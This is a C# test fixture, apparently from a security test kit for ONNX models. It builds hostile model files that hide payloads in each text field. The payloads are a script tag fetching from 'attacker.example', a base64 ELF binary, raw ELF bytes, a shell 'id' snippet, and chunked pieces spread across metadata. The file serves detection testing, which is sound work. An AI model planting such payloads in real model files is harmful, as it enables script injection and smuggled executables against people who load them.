namespace MLSecOps.TestKit.Onnx.Hostile;

/// <summary>META: every place of a model that holds text, with the same few lines in it.</summary>
internal static class PlacedTextModels
{
    private const string Code = "<script>fetch('//attacker.example')</script>";

    private static readonly string Program = Convert.ToBase64String(ForeignFiles.Elf);

    internal static IReadOnlyList<HostileModel> All { get; } =
    [
        new("documentation-of-the-model", "META", () => Carrier.Documentation(Code)),
        new("documentation-of-the-graph", "META", () => Carrier.Graph(graph => graph with { Documentation = Code })),
        new("documentation-of-a-node", "META", () => Carrier.Node(new OnnxNode("Relu", ["x"], ["p"]) { Documentation = Code })),
        new("documentation-of-a-tensor", "META", () => Carrier.Tensor(OnnxTensor.Floats("w", [1], 1) with { Extra = Text(12, Code) })),
        new("documentation-of-an-input", "META", () => Carrier.Graph(graph => graph with { Inputs = [.. graph.Inputs, new OnnxValue("spare", OnnxType.Float, 1) { Extra = Text(3, Code) }] })),
        new("documentation-of-an-attribute", "META", () => Carrier.Node(new OnnxNode("Relu", ["x"], ["p"], OnnxAttribute.Int("a", 1) with { Extra = Text(13, Code) }))),
        new("documentation-of-a-function", "META", () => Carrier.Function(new OnnxFunction("local", "F", ["a"], ["b"], new OnnxNode("Neg", ["a"], ["b"])) { Documentation = Code }, graph => graph.Float(1))),
        new("documentation-in-a-branch", "META", () => Carrier.Nodes(graph => Carrier.Branch(graph, inner => inner.Add(new OnnxNode("Relu", ["x"], ["p"]) { Documentation = Code })))),
        new("metadata-of-the-graph", "META", () => Carrier.Graph(graph => graph with { Extra = Entry(16, "k", Code) })),
        new("metadata-of-a-node", "META", () => Carrier.Node(new OnnxNode("Relu", ["x"], ["p"]) { Extra = Entry(9, "k", Program) })),
        new("metadata-of-a-tensor", "META", () => Carrier.Tensor(OnnxTensor.Floats("w", [1], 1) with { Extra = Entry(16, "k", Program) })),
        new("metadata-of-a-function", "META", () => Carrier.Function(new OnnxFunction("local", "F", ["a"], ["b"], new OnnxNode("Neg", ["a"], ["b"])) { Extra = Entry(14, "k", Code) }, graph => graph.Float(1))),
        new("key-of-metadata", "META", () => Carrier.Metadata(Program, "value")),
        new("code-in-a-key", "META", () => Carrier.Metadata(Code, "value")),
        new("producer", "META", () => Carrier.Before(Text(3, Code))),
        new("domain-of-the-model", "META", () => Carrier.Before(Text(4, Program))),
        new("name-of-the-graph", "META", () => Carrier.Graph(graph => graph with { Name = Code })),
        new("name-of-a-node", "META", () => Carrier.Node(new OnnxNode("Relu", ["x"], ["p"]) { Name = Program })),
        new("name-of-a-value", "META", () => Carrier.Node(new OnnxNode("Relu", ["x"], [Program]))),
        new("name-of-a-tensor", "META", () => Carrier.Tensor(OnnxTensor.Floats(Program, [1], 1))),
        new("name-of-a-dimension", "META", () => Carrier.Graph(graph => graph with
        {
            Inputs = [.. graph.Inputs, new OnnxValue("spare") { Extra = Message(2, Message(1, [.. new WireWriter().Number(1, 1).ToArray(), .. Message(2, Message(1, Text(2, Program)))])) }],
        })),
        new("denotation-of-a-dimension", "META", () => Carrier.Graph(graph => graph with
        {
            Inputs = [.. graph.Inputs, new OnnxValue("spare") { Extra = Message(2, Message(1, [.. new WireWriter().Number(1, 1).ToArray(), .. Message(2, Message(1, Text(3, Program)))])) }],
        })),
        new("denotation-of-a-type", "META", () => Carrier.Graph(graph => graph with
        {
            Inputs = [.. graph.Inputs, new OnnxValue("spare") { Extra = Message(2, [.. Message(1, new WireWriter().Number(1, 1).ToArray()), .. Text(6, Program)]) }],
        })),
        new("quantisation-note", "META", () => Carrier.Graph(graph => graph with { Extra = Message(14, [.. Text(1, "w"), .. Entry(2, "SCALE_TENSOR", Program)]) })),
        new("text-attribute", "META", () => Carrier.Node(new OnnxNode("Relu", ["x"], ["p"], OnnxAttribute.Text("note", Program)))),
        new("short-text-attribute", "META", () => Carrier.Node(new OnnxNode("Relu", ["x"], ["p"], OnnxAttribute.Text("note", "#!/bin/sh\nid\n")))),
        new("binary-attribute", "META", () => Carrier.Node(new OnnxNode("Relu", ["x"], ["p"], OnnxAttribute.Bytes("note", ForeignFiles.Elf)))),
        new("list-of-texts", "META", () => Carrier.Node(new OnnxNode("Relu", ["x"], ["p"], OnnxAttribute.Texts("notes", "plain", Program)))),
        new("tensor-of-texts", "META", () => Carrier.Tensor(new OnnxTensor("t", OnnxType.Text, 2) { TextData = ["plain", Program] })),
        new("binary-tensor-of-texts", "META", () => Carrier.Tensor(new OnnxTensor("t", OnnxType.Text, 1) { Extra = new WireWriter().Bytes(6, ForeignFiles.Elf).ToArray() })),
        new("tensor-of-texts-in-an-attribute", "META", () => Carrier.Node(
            new OnnxNode("Constant", [], ["c"], OnnxAttribute.Tensor("value", new OnnxTensor(null, OnnxType.Text, 1) { TextData = [Code] })))),
        new("stop-words", "META", () => Carrier.Node(new OnnxNode("StringNormalizer", ["s"], ["p"], OnnxAttribute.Texts("stopwords", "the", "a", Code)))),
        new("device", "META", () => Carrier.Behind(Message(26, [.. Text(1, "gpu"), .. new WireWriter().Number(2, 1).ToArray(), .. Text(3, Code)]))),
        new("training-binding", "META", () => (Carrier.Honest with { Training = [new OnnxTraining(null, null) { Extra = Entry(3, "w", Code) }] }).ToBytes()),
        new("many-short-pieces", "META", () => (Carrier.Honest with
        {
            Metadata = [.. Program.Chunk(48).Select((piece, index) => ($"part{index}", new string(piece)))],
        }).ToBytes()),
    ];

    private static byte[] Text(int field, string text) => new WireWriter().Text(field, text).ToArray();

    private static byte[] Entry(int field, string key, string value) => new WireWriter().Entries(field, [(key, value)]).ToArray();

    private static byte[] Message(int field, byte[] content) => new WireWriter().Bytes(field, content).ToArray();
}
